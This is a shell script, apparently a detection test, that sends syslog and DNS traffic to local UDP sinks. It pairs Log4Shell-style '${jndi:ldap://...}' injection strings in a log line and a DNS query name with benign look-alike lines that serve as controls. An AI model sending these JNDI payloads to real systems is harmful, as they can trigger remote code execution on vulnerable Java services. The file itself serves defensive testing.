# SPDX-License-Identifier: GPL-2.0-or-later
# UDP carriers: a log line on its way to a collector, and a name in a question. Both servers are plain sinks that the
# kernel hands the datagrams to: what is recorded is the clients' bytes (util-linux logger; a resolver query as any
# stub resolver writes it).

dns_query() { timeout 10 $OUT python3 "$here/srv/dns_query.py" 10.99.0.2 "$@"; }

harmless_log() {
    local line
    while read -r line; do
        timeout 5 $OUT logger -n 10.99.0.2 -d -P 514 -t app "$line"
    done <<'LINES'
started ${project.name} ${project.version} in ${basedir}
cannot resolve placeholder ${LDAP_URL:ldap://ldap.corp.example:389} in application.properties
user ${username} not found, searched ldap://ldap.corp.example:389/dc=corp,dc=example
JndiTemplate: looked up java:comp/env/jdbc/main
LINES
}

harmless_dns() {
    local name
    for name in www.example.com ldap.corp.example jndi.docs.example _ldap._tcp.corp.example; do
        dns_query "$name" A
    done
    dns_query 2.0.99.10.in-addr.arpa PTR
}

if wanted syslog-udp dns-query-name benign-syslog benign-dns; then
    serve in 514 python3 "$here/srv/udp_sink.py" 10.99.0.2 514
    serve in 53 python3 "$here/srv/udp_sink.py" 10.99.0.2 53 dns
    scene syslog-udp timeout 5 $OUT logger -n 10.99.0.2 -d -P 514 -t sshd \
        'Failed password for invalid user ${jndi:ldap://10.99.0.1:1389/syslog} from 10.99.0.1'
    scene dns-query-name dns_query '${jndi:ldap://10.99.0.1/a}' A
    scene benign-syslog harmless_log
    scene benign-dns harmless_dns
    stop_servers
fi
